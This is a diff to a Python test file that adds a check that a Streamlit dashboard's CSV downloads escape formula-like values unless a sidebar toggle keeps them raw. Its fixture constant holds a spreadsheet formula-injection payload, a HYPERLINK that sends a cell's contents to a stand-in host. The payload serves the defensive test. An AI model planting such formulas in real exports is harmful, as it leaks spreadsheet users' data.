@@ -11,11 +11,14 @@ import csv
 import io
 import zipfile
 from pathlib import Path
+from typing import ClassVar
 
 import duckdb
 import openpyxl
 import pandas as pd
 import pytest
+from streamlit.runtime.memory_media_file_storage import MemoryMediaFileStorage
+from streamlit.testing.v1 import AppTest, app_test
 from typer.testing import CliRunner
 
 from milepost.validate import cells
@@ -24,6 +27,7 @@ from milepost.validate.store.ingest import ingest
 
 from builders import consistent_rows, write_csv
 from conftest import BASIC_CONTRACT
+from dashboard_fixtures import APP
 
 runner = CliRunner()
 HOSTILE_MODEL = '=HYPERLINK("http://example.invalid/?x="&A1,"click")'
@@ -141,3 +145,39 @@ def test_harmonised_xlsx_holds_formulas_as_text(tmp_path: Path, hostile) -> None
     assert res.exit_code == 0, res.output
     _no_formulas(out)
     assert HOSTILE_MODEL in _strings(out)
+
+
+class _KeptStorage(MemoryMediaFileStorage):
+    """Streamlit's own in-memory media storage, kept reachable after an AppTest run so the test can read what a
+    download button would send (AppTest drops its storage when the run ends)."""
+
+    made: ClassVar[list[MemoryMediaFileStorage]] = []
+
+    def __init__(self, endpoint: str) -> None:
+        super().__init__(endpoint)
+        self.made.append(self)
+
+
+def _csv_download(at: AppTest, name: str) -> list[dict[str, str]]:
+    button = next(b for b in at.get("download_button") if b.proto.id.endswith(f"-{name}_csv"))
+    file_id = button.proto.url.rsplit("/", 1)[-1].split(".")[0]
+    data = _KeptStorage.made[-1].get_file(file_id).content
+    return list(csv.DictReader(io.StringIO(data.decode("utf-8"))))
+
+
+def test_the_dashboards_csv_downloads_neutralise_unless_the_sidebar_keeps_them_raw(hostile, monkeypatch) -> None:
+    db, _ = hostile
+    monkeypatch.setattr(app_test, "MemoryMediaFileStorage", _KeptStorage)
+    monkeypatch.setenv("MILEPOST_DB", str(db))
+    at = AppTest.from_file(str(APP), default_timeout=60)
+    at.run()
+    at.switch_page("views/submissions.py").run()
+    assert not at.exception, [e.message for e in at.exception]
+    option = at.sidebar.toggle(key="csv_raw_text")
+    assert option.value is False and "formula-like" in option.label
+    assert {r["model"] for r in _csv_download(at, "subs_table")} == {"'" + HOSTILE_MODEL}
+    option.set_value(True).run()
+    assert not at.exception, [e.message for e in at.exception]
+    assert {r["model"] for r in _csv_download(at, "subs_table")} == {HOSTILE_MODEL}
+    at.switch_page("views/screen.py").run()  # the choice holds on the other pages
+    assert at.sidebar.toggle(key="csv_raw_text").value is True
